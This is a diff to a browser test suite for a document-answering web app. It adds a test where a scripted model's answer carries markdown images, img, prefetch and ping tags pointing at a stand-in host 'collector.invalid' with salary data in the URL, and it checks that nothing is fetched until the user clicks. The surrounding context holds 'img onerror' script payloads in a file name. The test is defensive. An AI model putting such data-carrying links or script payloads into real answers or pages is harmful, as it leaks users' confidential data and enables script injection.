@@ -210,6 +210,39 @@ async def test_what_a_captured_model_says_is_only_ever_text(page: "Page", firms:
         assert await page.evaluate("window.hacked") is None
 
 
+CARRIER = "https://collector.invalid/p?d=remuneration%201%2C234%2C567"
+CARRYING = f"""![logo]({CARRIER}) ![][pic] [report]({CARRIER}) <img src="{CARRIER}"> <{CARRIER}>
+
+[![badge]({CARRIER})]({CARRIER}) <link rel=prefetch href="{CARRIER}"> <a ping="{CARRIER}" href="{CARRIER}">x</a>
+
+[pic]: {CARRIER}
+"""
+
+
+async def test_an_address_in_an_answer_is_asked_by_nobody_until_its_reader_follows_it(
+    page: "Page", firms: Database
+) -> None:
+    asked: list[str] = []
+    page.context.on("request", lambda request: asked.append(request.url))
+    async with served(firms, HubOptions(model=ScriptedModel(brain=lambda _: says(CARRYING)))) as server:
+        await sign_in(page, server)
+        await ask(page, "What do the papers say?")
+        links = page.locator(".run .text a", has_text="report")
+        assert await links.get_attribute("href") == CARRIER
+        assert "collector.invalid" in await page.inner_text(".where >> nth=0"), "where it leads is shown beside it"
+        await links.hover()
+        await page.reload()
+        await page.wait_for_selector(".run .text")
+        assert [url for url in asked if not url.startswith((server.url, "data:", "blob:"))] == []
+
+        # Who follows it carries out what it holds: that is the reader's doing, and nothing keeps them from it.
+        await page.context.route("https://collector.invalid/**", lambda route: route.fulfill(body="thanks"))
+        async with page.context.expect_page() as opened:
+            await links.click()
+        await (await opened.value).wait_for_load_state()
+        assert CARRIER in asked
+
+
 async def test_what_a_document_says_is_only_ever_text(page: "Page", server: Served, tmp_path: Path) -> None:
     document = tmp_path / "<img src=x onerror=window.hacked=9>.md"
     document.write_text(f"# Retention of quince files\n\nQuince files are kept for nine years. {HOSTILE}\n")
